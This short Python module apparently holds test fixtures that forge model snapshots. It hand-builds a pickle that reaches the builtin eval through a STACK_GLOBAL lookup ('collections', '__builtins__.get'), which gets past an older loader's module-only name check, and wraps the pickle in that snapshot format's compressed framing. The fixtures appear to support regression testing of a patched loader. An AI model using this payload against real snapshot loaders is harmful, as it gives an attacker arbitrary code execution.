"""Forged model snapshots: what an attacker with write access to the state topic could send."""

from __future__ import annotations

import pickle

import zstandard


def eval_pickle(expression: str) -> bytes:
    """Protocol 4: STACK_GLOBAL("collections", "__builtins__.get") resolves to a builtin.

    Snapshot format 1 checked only a name's module, so this pickle called ``eval``.
    """

    def text(value: str) -> bytes:
        raw = value.encode()
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw

    call_eval = text("collections") + text("__builtins__.get") + pickle.STACK_GLOBAL
    call_eval += text("eval") + pickle.TUPLE1 + pickle.REDUCE
    return (
        pickle.PROTO + b"\x04" + call_eval + text(expression) + pickle.TUPLE1 + pickle.REDUCE
    ) + pickle.STOP


def legacy_snapshot(payload: bytes) -> bytes:
    """``payload`` in snapshot format 1's exact framing: magic, size, zstd-compressed pickle."""
    return b"CCS1" + len(payload).to_bytes(4, "big") + zstandard.ZstdCompressor().compress(payload)
